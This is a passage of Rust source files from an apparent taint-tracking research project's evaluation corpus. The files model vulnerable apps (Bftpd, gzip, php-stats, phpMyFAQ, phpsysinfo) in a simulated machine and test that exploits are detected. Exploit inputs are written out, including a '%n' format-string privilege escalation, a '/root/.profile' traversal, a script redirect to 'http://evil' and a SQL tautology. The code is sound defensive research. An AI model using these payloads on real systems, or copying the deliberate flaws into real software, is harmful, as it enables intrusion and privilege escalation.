//! Bftpd format-string attack (Table 2, row 8).
//!
//! The FTP daemon logs/echoes a user-controlled string *as the format
//! string* (the paper notes they made a minor adjustment to Bftpd to make
//! arbitrary code execution possible — same here). The attacker first
//! plants a target address in session state, then sends a `%d%d%d%n`
//! command: `vformat` walks past the real argument array into the adjacent
//! session buffer, fetches the planted (tainted) pointer, and `%n` stores
//! through it — overwriting the daemon's `uid` like a GOT entry.
//!
//! Under SHIFT the planted pointer is loaded with its taint tag set, and
//! the `%n` store faults on NaT consumption — policy **L2** (tainted store
//! address), with zero reliance on high-level policies, exactly like the
//! paper's row: "Policy L2 is strong enough to detect exploits on the
//! example format string vulnerability in Bftpd."

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::Attack;

/// Deterministic address of the daemon's `uid` global. Globals are laid out
/// from `GLOBALS_BASE` in declaration order, 16-byte aligned — the attacker
/// "knows the binary".
pub fn uid_addr() -> u64 {
    // Declared first in `build()` below.
    shift_machine::layout::GLOBALS_BASE
}

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    let uid_g = pb.global_zeroed("uid", 8); // MUST stay the first global
    let greet = pb.global_str("greet", "220 bftpd ready\r\n");

    pb.func("main", 0, move |f| {
        // Session state: the argument array sits directly below the session
        // buffer in the frame — the "stack walking" adjacency real printf
        // exploits use.
        let argslot = f.local(24); // 3 legitimate arguments
        let sessslot = f.local(64); // attacker-persisted session data
        let cmdslot = f.local(256);
        let outslot = f.local(512);
        let args = f.local_addr(argslot);
        let sess = f.local_addr(sessslot);
        let cmd = f.local_addr(cmdslot);
        let out = f.local_addr(outslot);

        // uid starts as an unprivileged id.
        let ua = f.global_addr(uid_g);
        let unpriv = f.iconst(1000);
        f.store8(unpriv, ua, 0);

        let g = f.global_addr(greet);
        let gl = f.call("strlen", &[g]);
        f.syscall_void(sys::NET_WRITE, &[g, gl]);

        // Legitimate vformat arguments: session counters.
        let a0 = f.iconst(21);
        f.store8(a0, args, 0);
        let a1 = f.iconst(4);
        f.store8(a1, args, 8);
        let a2 = f.iconst(1999);
        f.store8(a2, args, 16);

        // Message 1: "USER <8 raw bytes>" — stored verbatim into the
        // session buffer (binary session data, e.g. a cookie).
        let cap = f.iconst(250);
        let n1 = f.syscall(sys::NET_READ, &[cmd, cap]);
        f.if_cmp(CmpRel::Lt, n1, Rhs::Imm(13), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });
        f.for_up(Rhs::Imm(0), Rhs::Imm(8), |f, k| {
            let sp0 = f.addi(cmd, 5); // past "USER "
            let sp = f.add(sp0, k);
            let c = f.load1(sp, 0);
            let dp = f.add(sess, k);
            f.store1(c, dp, 0);
        });

        // Message 2: the status command whose text is used AS THE FORMAT.
        let n2 = f.syscall(sys::NET_READ, &[cmd, cap]);
        let end = f.add(cmd, n2);
        let z = f.iconst(0);
        f.store1(z, end, 0);

        // The bug: user input as format string.
        let written = f.call("vformat", &[out, cmd, args]);
        f.syscall_void(sys::NET_WRITE, &[out, written]);

        // Privilege check against the (possibly clobbered) uid.
        let uid = f.load8(ua, 0);
        f.if_cmp(CmpRel::Lt, uid, Rhs::Imm(100), |f| {
            let msg = f.local(40);
            let mp = f.local_addr(msg);
            // "230 admin" spelled out byte-wise to keep it on the stack.
            for (k, ch) in b"230 admin\n".iter().enumerate() {
                let c = f.iconst(*ch as i64);
                f.store1(c, mp, k as i64);
            }
            let ml = f.iconst(10);
            f.syscall_void(sys::NET_WRITE, &[mp, ml]);
        });
        f.ret(Some(written));
    });

    pb.build().expect("bftpd guest is well-formed")
}

fn benign() -> World {
    World::new()
        .net(b"USER someuser1234".to_vec())
        .net(b"transferred %d files in %d s (code %d)".to_vec())
}

fn exploit() -> World {
    // Plant the uid address in the session, then trigger %n through it:
    // directives 1–3 consume the real arguments, the 4th (%n) walks into
    // the adjacent session buffer and fetches the planted pointer.
    let mut m1 = b"USER ".to_vec();
    m1.extend_from_slice(&uid_addr().to_le_bytes());
    World::new().net(m1).net(b"%d%d%d%n".to_vec())
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "N/A",
        program: "Bftpd (0.96 prior)",
        language: "C",
        attack_type: "Format string attack",
        policies: "L2",
        expected: Policy::L2,
        build,
        benign,
        exploit,
        succeeded: |report| {
            // Unprotected, %n clobbers uid and the daemon grants admin.
            report.runtime.net_output.windows(9).any(|w| w == b"230 admin")
        },
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn benign_status_formats_the_real_arguments() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        let out = String::from_utf8_lossy(&report.runtime.net_output).into_owned();
        assert!(out.contains("transferred 21 files in 4 s (code 1999)"), "{out}");
        assert!(!out.contains("230 admin"));
    }

    #[test]
    fn exploit_really_escalates_when_unprotected() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), exploit()).unwrap();
        assert!(matches!(report.exit, shift_core::Exit::Halted(_)), "{:?}", report.exit);
        let out = String::from_utf8_lossy(&report.runtime.net_output).into_owned();
        assert!(out.contains("230 admin"), "uid overwrite failed: {out}");
    }
}
