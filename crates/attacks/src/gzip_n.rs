//! GNU Gzip `-N` directory traversal (Table 2, row 2).
//!
//! `gzip -N` restores the original file name stored *inside* the compressed
//! file. A hostile file embeds an absolute name; the decompressor opens it
//! for writing with tainted bytes in the leading `/` — policy H1. The
//! payload is RLE-compressed so the extractor does real decompression work
//! over tainted data before the sink fires.

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::Attack;

/// The compressed input file.
pub const GZ_FILE: &str = "data.gz";

/// Wire format: `[nlen:1][name][pairs of (count:1, byte:1) until count==0]`.
pub fn make_gz(name: &str, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    out.push(name.len() as u8);
    out.extend_from_slice(name.as_bytes());
    // RLE-encode the payload.
    let mut i = 0;
    while i < payload.len() {
        let b = payload[i];
        let mut run = 1usize;
        while i + run < payload.len() && run < 255 && payload[i + run] == b {
            run += 1;
        }
        out.push(run as u8);
        out.push(b);
        i += run;
    }
    out.push(0);
    out
}

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    let gz = pb.global_str("gz_path", GZ_FILE);

    pb.func("main", 0, move |f| {
        let gp = f.global_addr(gz);
        let size = f.syscall(sys::FILE_STAT, &[gp]);
        f.if_cmp(CmpRel::Lt, size, Rhs::Imm(0), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });
        let padded = f.addi(size, 8);
        let buf = f.syscall(sys::BRK, &[padded]);
        let zero = f.iconst(0);
        let fd = f.syscall(sys::FILE_OPEN, &[gp, zero]);
        f.syscall_void(sys::FILE_READ, &[fd, buf, size]);
        f.syscall_void(sys::FILE_CLOSE, &[fd]);

        // Original file name (tainted).
        let nameslot = f.local(256);
        let name = f.local_addr(nameslot);
        let nlen_raw = f.load1(buf, 0);
        // Bounds-check the tainted name length before it drives address
        // arithmetic (§3.3.2's bounds-checking pattern).
        f.if_cmp(CmpRel::Ge, nlen_raw, Rhs::Imm(250), |f| {
            let three = f.iconst(3);
            f.ret(Some(three));
        });
        let nlen = f.sanitize(nlen_raw);
        f.for_up(Rhs::Imm(0), Rhs::Reg(nlen), |f, k| {
            let sp = f.add(buf, k);
            let c = f.load1(sp, 1);
            let dp = f.add(name, k);
            f.store1(c, dp, 0);
        });
        let endp = f.add(name, nlen);
        let z = f.iconst(0);
        f.store1(z, endp, 0);

        // Decompress the RLE stream.
        let outcap = f.iconst(8192);
        let out = f.syscall(sys::BRK, &[outcap]);
        let outn = f.iconst(0);
        let i = f.addi(nlen, 1);
        f.loop_(|f| {
            let cp = f.add(buf, i);
            let count = f.load1(cp, 0);
            f.if_cmp(CmpRel::Eq, count, Rhs::Imm(0), |f| f.break_());
            let b = f.load1(cp, 1);
            f.for_up(Rhs::Imm(0), Rhs::Reg(count), |f, _k| {
                f.if_cmp(CmpRel::Ge, outn, Rhs::Imm(8190), |f| f.break_());
                let op = f.add(out, outn);
                f.store1(b, op, 0);
                let o1 = f.addi(outn, 1);
                f.assign(outn, o1);
            });
            let i2 = f.addi(i, 2);
            f.assign(i, i2);
        });

        // Restore under the embedded name (the H1 sink).
        let one = f.iconst(1);
        let wfd = f.syscall(sys::FILE_OPEN, &[name, one]);
        f.if_cmp(CmpRel::Lt, wfd, Rhs::Imm(0), |f| {
            let two = f.iconst(2);
            f.ret(Some(two));
        });
        f.syscall_void(sys::FILE_WRITE, &[wfd, out, outn]);
        f.syscall_void(sys::FILE_CLOSE, &[wfd]);
        f.ret(Some(outn));
    });

    pb.build().expect("gzip guest is well-formed")
}

fn benign() -> World {
    World::new().file(GZ_FILE, make_gz("restored.txt", b"aaaabbbcc data data"))
}

fn exploit() -> World {
    World::new().file(GZ_FILE, make_gz("/root/.profile", b"evil() { :; }"))
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2005-1228",
        program: "GNU Gzip (1.2.4)",
        language: "C",
        attack_type: "Directory Traversal",
        policies: "H1 + Low level policies",
        expected: Policy::H1,
        build,
        benign,
        exploit,
        succeeded: |report| report.runtime.world_files().contains_key("/root/.profile"),
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn benign_file_round_trips_through_rle() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        assert_eq!(report.exit, shift_core::Exit::Halted(19)); // payload length
        assert_eq!(
            report.runtime.world_files().get("restored.txt").map(Vec::as_slice),
            Some(&b"aaaabbbcc data data"[..])
        );
    }
}
