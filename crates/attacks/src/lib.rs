//! # shift-attacks — the Table-2 security-evaluation corpus
//!
//! Eight guest applications, each modelled on one of the paper's real-world
//! vulnerabilities, with a benign input (the false-positive check) and an
//! exploit input (the detection check):
//!
//! | # | program     | attack type            | detection |
//! |---|-------------|------------------------|-----------|
//! | 1 | GNU Tar     | directory traversal    | H1 + low-level |
//! | 2 | GNU Gzip    | directory traversal    | H1 + low-level |
//! | 3 | Qwikiwiki   | directory traversal    | H2 + low-level |
//! | 4 | Scry        | cross-site scripting   | H5 + low-level |
//! | 5 | php-stats   | cross-site scripting   | H5 + low-level |
//! | 6 | phpsysinfo  | cross-site scripting   | H5 + low-level |
//! | 7 | phpmyfaq    | SQL command injection  | H3 + low-level |
//! | 8 | Bftpd       | format string          | L2 |
//!
//! Each app reproduces the *data flow* of its CVE — a real `strcpy` smears
//! real tainted bytes, a real `%n` writes through a planted pointer — so
//! detection depends on the whole stack (instrumented loads/stores, bitmap,
//! NaT propagation, policy engine) doing its job, and on nothing else.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod bftpd;
mod gzip_n;
mod php_stats;
mod phpmyfaq;
mod phpsysinfo;
mod qwikiwiki;
mod scry;
mod tar;
pub mod web;

use shift_core::{Policy, World};
use shift_ir::Program;

/// One row of Table 2: a vulnerable application plus its inputs.
#[derive(Clone, Copy)]
pub struct Attack {
    /// CVE identifier (or "N/A", like the paper's Bftpd row).
    pub cve: &'static str,
    /// Program name and version, Table-2 style.
    pub program: &'static str,
    /// Implementation language of the original ("C" / "PHP").
    pub language: &'static str,
    /// Attack class.
    pub attack_type: &'static str,
    /// Detection policies, Table-2 style ("H1 + Low level policies").
    pub policies: &'static str,
    /// The policy expected to fire first under byte-level tracking.
    pub expected: Policy,
    /// Builds the guest program.
    pub build: fn() -> Program,
    /// A benign input: must run clean under full instrumentation.
    pub benign: fn() -> World,
    /// The exploit input: must be detected when instrumented, and must
    /// visibly succeed when not.
    pub exploit: fn() -> World,
    /// Checks that the exploit *succeeded* in an unprotected run (used for
    /// the paper's "without SHIFT protection, all attacks succeed").
    pub succeeded: fn(&shift_core::RunReport) -> bool,
    /// `true` when *word-level* tags are known to smear the application's
    /// own clean meta characters (one tag bit covers 8 bytes, so a clean
    /// quote adjacent to tainted bytes reads as tainted). Byte-level
    /// tracking never has this; see EXPERIMENTS.md for the discussion.
    pub word_smears: bool,
}

impl std::fmt::Debug for Attack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Attack").field("program", &self.program).finish()
    }
}

/// All eight attacks, in Table-2 order.
pub fn all_attacks() -> Vec<Attack> {
    vec![
        tar::attack(),
        gzip_n::attack(),
        qwikiwiki::attack(),
        scry::attack(),
        php_stats::attack(),
        phpsysinfo::attack(),
        phpmyfaq::attack(),
        bftpd::attack(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Granularity, Mode, Shift, ShiftOptions};

    fn shift(mode: Mode) -> Shift {
        Shift::new(mode).with_insn_limit(200_000_000)
    }

    /// The full Table-2 matrix: benign runs raise no alarms (no false
    /// positives), exploits are detected at both granularities, and the
    /// same exploits succeed without SHIFT.
    #[test]
    fn table2_detection_matrix() {
        for atk in all_attacks() {
            let app = (atk.build)();

            for gran in [Granularity::Byte, Granularity::Word] {
                let mode = Mode::Shift(ShiftOptions::baseline(gran));
                // No false positives — except the documented word-level
                // sub-word smearing cases, which byte-level never has.
                let benign = shift(mode).run(&app, (atk.benign)()).unwrap();
                if gran == Granularity::Byte || !atk.word_smears {
                    assert!(
                        !benign.exit.is_detection(),
                        "{} [{gran}]: false positive: {:?}",
                        atk.program,
                        benign.exit
                    );
                }
                // Detection.
                let hit = shift(mode).run(&app, (atk.exploit)()).unwrap();
                assert!(
                    hit.exit.is_detection(),
                    "{} [{gran}]: exploit missed: {:?}",
                    atk.program,
                    hit.exit
                );
                if gran == Granularity::Byte {
                    assert_eq!(
                        hit.detected_policy(),
                        Some(atk.expected),
                        "{}: wrong policy: {:?}",
                        atk.program,
                        hit.exit
                    );
                }
            }

            // Without SHIFT, the attack succeeds.
            let unprotected = shift(Mode::Uninstrumented).run(&app, (atk.exploit)()).unwrap();
            assert!(
                !unprotected.exit.is_detection(),
                "{}: uninstrumented run cannot detect anything",
                atk.program
            );
            assert!(
                (atk.succeeded)(&unprotected),
                "{}: exploit failed even unprotected: {:?}",
                atk.program,
                unprotected.exit
            );
        }
    }

    /// Detection also works with both architectural enhancements on — the
    /// enhancements change cost, never semantics.
    #[test]
    fn enhancements_do_not_lose_detections() {
        for atk in all_attacks() {
            let app = (atk.build)();
            let mode = Mode::Shift(ShiftOptions::enhanced(Granularity::Byte));
            let hit = shift(mode).run(&app, (atk.exploit)()).unwrap();
            assert!(
                hit.exit.is_detection(),
                "{}: exploit missed with enhancements: {:?}",
                atk.program,
                hit.exit
            );
            let benign = shift(mode).run(&app, (atk.benign)()).unwrap();
            assert!(
                !benign.exit.is_detection(),
                "{}: false positive with enhancements: {:?}",
                atk.program,
                benign.exit
            );
        }
    }

    /// Word-level tags trade precision for cost in *both* directions: one
    /// bit covers 8 bytes, so a clean NUL terminator written into the same
    /// word as a short tainted payload wipes its tag — a false negative
    /// byte-level tracking does not have. This pins the behaviour down so
    /// EXPERIMENTS.md can cite it.
    #[test]
    fn word_level_short_payload_false_negative() {
        let atk = all_attacks().into_iter().find(|a| a.program.contains("phpSysInfo")).unwrap();
        let app = (atk.build)();
        // "<script" + NUL = exactly 8 bytes = one word-level tag bit.
        let short = World::new()
            .file("proc/cpuinfo", b"model: sim64\n".to_vec())
            .file("proc/meminfo", b"total: 4096\n".to_vec())
            .net(b"GET /sysinfo?lng=<script HTTP/1.0".to_vec());
        let byte = shift(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
            .run(&app, short.clone())
            .unwrap();
        assert!(byte.exit.is_detection(), "byte level still catches it: {:?}", byte.exit);
        let word =
            shift(Mode::Shift(ShiftOptions::baseline(Granularity::Word))).run(&app, short).unwrap();
        assert!(
            !word.exit.is_detection(),
            "expected the documented word-level false negative, got {:?}",
            word.exit
        );
    }

    /// The software-only shadow-register mode detects the same corpus: its
    /// taint *semantics* match SHIFT's; only the cost differs. Low-level
    /// detections surface as GUARD alerts (the software re-creation of the
    /// L1/L2 hardware checks) rather than NaT faults.
    #[test]
    fn shadow_mode_detects_the_corpus_too() {
        for atk in all_attacks() {
            let app = (atk.build)();
            let mode = Mode::Shadow(Granularity::Byte);
            let hit = shift(mode).run(&app, (atk.exploit)()).unwrap();
            assert!(
                hit.exit.is_detection(),
                "{}: exploit missed in shadow mode: {:?}",
                atk.program,
                hit.exit
            );
            let benign = shift(mode).run(&app, (atk.benign)()).unwrap();
            assert!(
                !benign.exit.is_detection(),
                "{}: shadow-mode false positive: {:?}",
                atk.program,
                benign.exit
            );
        }
    }

    /// Recovery must not weaken detection: with every policy set to
    /// `AbortTransaction`, each Table-2 exploit is still caught — recorded
    /// in the shared violation log and rolled back rather than fail-stopped.
    #[test]
    fn table2_still_detected_under_abort_transaction() {
        use shift_core::ViolationAction;
        for atk in all_attacks() {
            let app = (atk.build)();
            let mut cfg = shift_core::TaintConfig::default_secure();
            cfg.set_default_action(ViolationAction::AbortTransaction);
            let report = shift(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
                .with_config(cfg)
                .serve(&app, (atk.exploit)())
                .unwrap();
            assert!(
                !report.violations.is_empty(),
                "{}: exploit not detected under recovery: {:?}",
                atk.program,
                report.exit
            );
            assert!(
                report.recovered >= 1 || matches!(report.exit, shift_core::Exit::Violation(_)),
                "{}: detection neither recovered nor fail-stopped: {:?}",
                atk.program,
                report.exit
            );
        }
    }

    #[test]
    fn registry_matches_table2() {
        let rows = all_attacks();
        assert_eq!(rows.len(), 8);
        let classes: Vec<_> = rows.iter().map(|a| a.attack_type).collect();
        assert_eq!(classes.iter().filter(|c| c.contains("Traversal")).count(), 3);
        assert_eq!(classes.iter().filter(|c| c.contains("Scripting")).count(), 3);
        assert_eq!(classes.iter().filter(|c| c.contains("SQL")).count(), 1);
        assert_eq!(classes.iter().filter(|c| c.contains("Format")).count(), 1);
    }
}
