//! php-stats cross-site scripting (Table 2, row 5).
//!
//! The hit counter persists per-page counts in a stats file and renders a
//! table; the page name from the request is echoed into the table row
//! unescaped — a reflected XSS caught by H5. Unlike Scry, the tainted value
//! also round-trips through the stats *file* before being rendered, so
//! detection exercises taint flowing disk → memory → HTML.

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::{web, Attack};

/// Where the counter persists its state.
pub const STATS_FILE: &str = "stats.dat";

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    web::add_get_param(&mut pb);
    let key = pb.global_str("k_page", "page=");
    let sf = pb.global_str("stats_path", STATS_FILE);
    let head = pb.global_str("tpl_head", "<table><tr><td>");
    let mid = pb.global_str("tpl_mid", "</td><td>hits: ");
    let tail = pb.global_str("tpl_tail", "</td></tr></table>");

    pb.func("main", 0, move |f| {
        let reqslot = f.local(512);
        let req = f.local_addr(reqslot);
        let cap = f.iconst(500);
        let n = f.syscall(sys::NET_READ, &[req, cap]);
        let end = f.add(req, n);
        let z = f.iconst(0);
        f.store1(z, end, 0);

        let pageslot = f.local(256);
        let page = f.local_addr(pageslot);
        let ka = f.global_addr(key);
        let max = f.iconst(200);
        let plen = f.call("get_param", &[req, ka, page, max]);
        f.if_cmp(CmpRel::Lt, plen, Rhs::Imm(0), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });

        // Append the page name to the stats file, then read it back and
        // count previous visits (taint round-trips through disk).
        let sfp = f.global_addr(sf);
        let one = f.iconst(1);
        let wfd = f.syscall(sys::FILE_OPEN, &[sfp, one]);
        f.syscall_void(sys::FILE_WRITE, &[wfd, page, plen]);
        let nl = f.local(8);
        let nlp = f.local_addr(nl);
        let sep = f.iconst('\n' as i64);
        f.store1(sep, nlp, 0);
        let onelen = f.iconst(1);
        f.syscall_void(sys::FILE_WRITE, &[wfd, nlp, onelen]);
        f.syscall_void(sys::FILE_CLOSE, &[wfd]);

        let size = f.syscall(sys::FILE_STAT, &[sfp]);
        let padded = f.addi(size, 8);
        let statbuf = f.syscall(sys::BRK, &[padded]);
        let zero = f.iconst(0);
        let rfd = f.syscall(sys::FILE_OPEN, &[sfp, zero]);
        f.syscall_void(sys::FILE_READ, &[rfd, statbuf, size]);
        f.syscall_void(sys::FILE_CLOSE, &[rfd]);

        // hits = number of lines equal to the page name.
        let hits = f.iconst(0);
        let i = f.iconst(0);
        f.while_cmp(
            |f| (CmpRel::Lt, f.use_of(i), Rhs::Reg(size)),
            |f| {
                // Compare the line starting at i with `page`.
                let matches = f.iconst(1);
                let k = f.iconst(0);
                f.loop_(|f| {
                    let lp0 = f.add(statbuf, i);
                    let lp = f.add(lp0, k);
                    let c = f.load1(lp, 0);
                    let pp = f.add(page, k);
                    let p = f.load1(pp, 0);
                    f.if_cmp(CmpRel::Eq, p, Rhs::Imm(0), |f| {
                        // End of the page name: the line must end too.
                        f.if_cmp(CmpRel::Ne, c, Rhs::Imm('\n' as i64), |f| {
                            f.assign_imm(matches, 0);
                        });
                        f.break_();
                    });
                    f.if_cmp(CmpRel::Ne, c, Rhs::Reg(p), |f| {
                        f.assign_imm(matches, 0);
                        f.break_();
                    });
                    let k1 = f.addi(k, 1);
                    f.assign(k, k1);
                });
                f.if_cmp(CmpRel::Ne, matches, Rhs::Imm(0), |f| {
                    let h1 = f.addi(hits, 1);
                    f.assign(hits, h1);
                });
                // Advance to the next line.
                f.loop_(|f| {
                    f.if_cmp(CmpRel::Ge, i, Rhs::Reg(size), |f| f.break_());
                    let lp = f.add(statbuf, i);
                    let c = f.load1(lp, 0);
                    let i1 = f.addi(i, 1);
                    f.assign(i, i1);
                    f.if_cmp(CmpRel::Eq, c, Rhs::Imm('\n' as i64), |f| f.break_());
                });
            },
        );

        // Render the table row with the (tainted) page name echoed.
        let pageout = f.local(1024);
        let html = f.local_addr(pageout);
        let h = f.global_addr(head);
        f.call_void("strcpy", &[html, h]);
        f.call_void("strcat", &[html, page]);
        let m = f.global_addr(mid);
        f.call_void("strcat", &[html, m]);
        let numslot = f.local(32);
        let num = f.local_addr(numslot);
        f.call_void("utoa", &[hits, num]);
        f.call_void("strcat", &[html, num]);
        let t = f.global_addr(tail);
        f.call_void("strcat", &[html, t]);
        let hlen = f.call("strlen", &[html]);
        f.syscall_void(sys::HTML_OUT, &[html, hlen]);
        f.ret(Some(hits));
    });

    pb.build().expect("php-stats guest is well-formed")
}

fn benign() -> World {
    World::new()
        .net(b"GET /stats?page=index HTTP/1.0".to_vec())
        .file(STATS_FILE, b"index\nabout\nindex\n".to_vec())
}

fn exploit() -> World {
    World::new()
        .net(b"GET /stats?page=<ScRiPt>document.location='http://evil'</ScRiPt> HTTP/1.0".to_vec())
        .file(STATS_FILE, Vec::new())
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2005-4604",
        program: "php-stats (0.1.9.1b)",
        language: "PHP",
        attack_type: "Cross Site Scripting",
        policies: "H5 + Low level policies",
        expected: Policy::H5,
        build,
        benign,
        exploit,
        succeeded: |report| {
            report.runtime.html_output.windows(7).any(|w| w.eq_ignore_ascii_case(b"<script"))
        },
        word_smears: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn counts_previous_hits() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        // Two prior "index" lines plus the one this request appended.
        assert_eq!(report.exit, shift_core::Exit::Halted(3));
        let html = String::from_utf8_lossy(&report.runtime.html_output).into_owned();
        assert!(html.contains("index</td><td>hits: 3"), "{html}");
    }
}
