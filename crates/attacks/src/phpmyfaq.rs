//! phpMyFAQ SQL command injection (Table 2, row 7).
//!
//! The FAQ page concatenates the request's `id=` parameter into a SQL
//! statement between single quotes. A crafted id closes the string and
//! injects `OR '1'='1'`; the injected quotes are tainted network bytes, so
//! policy H3 fires at `sql_exec`. The app quotes the statement itself with
//! *clean* quotes, which H3 must (and does) ignore.

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::{web, Attack};

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    web::add_get_param(&mut pb);
    let key = pb.global_str("k_id", "id=");
    let q1 = pb.global_str("sql_1", "SELECT answer FROM faqdata WHERE active='yes' AND id='");
    let q2 = pb.global_str("sql_2", "' LIMIT 1");
    let page = pb.global_str("tpl", "<div class=faq>answer body</div>");

    pb.func("main", 0, move |f| {
        let reqslot = f.local(512);
        let req = f.local_addr(reqslot);
        let cap = f.iconst(500);
        let n = f.syscall(sys::NET_READ, &[req, cap]);
        let end = f.add(req, n);
        let z = f.iconst(0);
        f.store1(z, end, 0);

        let idslot = f.local(256);
        let id = f.local_addr(idslot);
        let ka = f.global_addr(key);
        let max = f.iconst(200);
        let ilen = f.call("get_param", &[req, ka, id, max]);
        f.if_cmp(CmpRel::Lt, ilen, Rhs::Imm(0), |f| {
            let one = f.iconst(1);
            f.ret(Some(one));
        });

        // query = q1 + id + q2 — the classic string-built statement.
        let qslot = f.local(1024);
        let query = f.local_addr(qslot);
        let a = f.global_addr(q1);
        f.call_void("strcpy", &[query, a]);
        f.call_void("strcat", &[query, id]);
        let b = f.global_addr(q2);
        f.call_void("strcat", &[query, b]);

        let qlen = f.call("strlen", &[query]);
        f.syscall_void(sys::SQL_EXEC, &[query, qlen]);

        let p = f.global_addr(page);
        let pl = f.call("strlen", &[p]);
        f.syscall_void(sys::HTML_OUT, &[p, pl]);
        f.ret(Some(qlen));
    });

    pb.build().expect("phpmyfaq guest is well-formed")
}

fn benign() -> World {
    World::new().net(b"GET /faq?id=42 HTTP/1.0".to_vec())
}

fn exploit() -> World {
    World::new().net(b"GET /faq?id=0'_OR_'1'='1 HTTP/1.0".to_vec())
}

/// Table-2 row.
pub fn attack() -> Attack {
    Attack {
        cve: "CVE-2006-1884",
        program: "phpMyFAQ (1.6.8)",
        language: "PHP",
        attack_type: "SQL Command Injection",
        policies: "H3 + Low level policies",
        expected: Policy::H3,
        build,
        benign,
        exploit,
        succeeded: |report| {
            // Unprotected, the injected tautology reaches the database.
            report
                .runtime
                .sql_log
                .iter()
                .any(|q| q.windows(9).any(|w| w == b"OR_'1'='1" || w == b"OR '1'='1"))
        },
        word_smears: true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_core::{Mode, Shift};

    #[test]
    fn benign_query_executes_with_clean_quotes() {
        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
        assert_eq!(report.runtime.sql_log.len(), 1);
        let q = String::from_utf8_lossy(&report.runtime.sql_log[0]).into_owned();
        assert_eq!(q, "SELECT answer FROM faqdata WHERE active='yes' AND id='42' LIMIT 1");
        assert!(!report.runtime.html_output.is_empty());
    }

    #[test]
    fn benign_query_is_clean_even_instrumented() {
        use shift_core::{Granularity, Mode, ShiftOptions};
        // The program's own quotes around the tainted id must not trip H3.
        let report = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
            .run(&build(), benign())
            .unwrap();
        assert!(!report.exit.is_detection(), "{:?}", report.exit);
        assert_eq!(report.runtime.sql_log.len(), 1);
    }
}
