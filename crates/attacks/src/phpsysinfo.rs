//! phpsysinfo cross-site scripting (Table 2, row 6).
//!
//! The system-information page accepts a `lng=` (language) parameter and
//! reflects it into the page chrome when the requested translation is
//! missing. The app renders several info sections from "system" files, so
//! the tainted parameter is a small part of a mostly-clean page — H5 must
//! pinpoint the tainted `<script>` among clean markup.

use shift_core::{Policy, World};
use shift_ir::{Program, ProgramBuilder, Rhs};
use shift_isa::{sys, CmpRel};

use crate::{web, Attack};

fn build() -> Program {
    let mut pb = ProgramBuilder::new();
    web::add_get_param(&mut pb);
    let key = pb.global_str("k_lng", "lng=");
    let cpuinfo = pb.global_str("p_cpu", "proc/cpuinfo");
    let meminfo = pb.global_str("p_mem", "proc/meminfo");
    let head = pb.global_str("tpl_head", "<html><body><h1>phpSysInfo</h1>");
    let warn = pb.global_str("tpl_warn", "<p>unknown language: ");
    let warn2 = pb.global_str("tpl_warn2", "</p>");
    let sec = pb.global_str("tpl_sec", "<pre>");
    let sec2 = pb.global_str("tpl_sec2", "</pre>");
    let tail = pb.global_str("tpl_tail", "</body></html>");
    let en = pb.global_str("lng_en", "en");

    pb.func("main", 0, move |f| {
        let reqslot = f.local(512);
        let req = f.local_addr(reqslot);
        let cap = f.iconst(500);
        let n = f.syscall(sys::NET_READ, &[req, cap]);
        let end = f.add(req, n);
        let z = f.iconst(0);
        f.store1(z, end, 0);

        let lngslot = f.local(256);
        let lng = f.local_addr(lngslot);
        let ka = f.global_addr(key);
        let max = f.iconst(200);
        let llen = f.call("get_param", &[req, ka, lng, max]);

        let h = f.global_addr(head);
        let hl = f.call("strlen", &[h]);
        f.syscall_void(sys::HTML_OUT, &[h, hl]);

        // Unknown language ⇒ reflect it in a warning (the vulnerability).
        f.if_cmp(CmpRel::Ge, llen, Rhs::Imm(0), |f| {
            let ena = f.global_addr(en);
            let same = f.call("strcmp", &[lng, ena]);
            f.if_cmp(CmpRel::Ne, same, Rhs::Imm(0), |f| {
                let w = f.global_addr(warn);
                let wl = f.call("strlen", &[w]);
                f.syscall_void(sys::HTML_OUT, &[w, wl]);
                f.syscall_void(sys::HTML_OUT, &[lng, llen]);
                let w2 = f.global_addr(warn2);
                let w2l = f.call("strlen", &[w2]);
                f.syscall_void(sys::HTML_OUT, &[w2, w2l]);
            });
        });

        // Render the info sections from the pseudo-proc files.
        let bufsz = f.iconst(2048);
        let buf = f.syscall(sys::BRK, &[bufsz]);
        for src in [cpuinfo, meminfo] {
            let pa = f.global_addr(src);
            let zero = f.iconst(0);
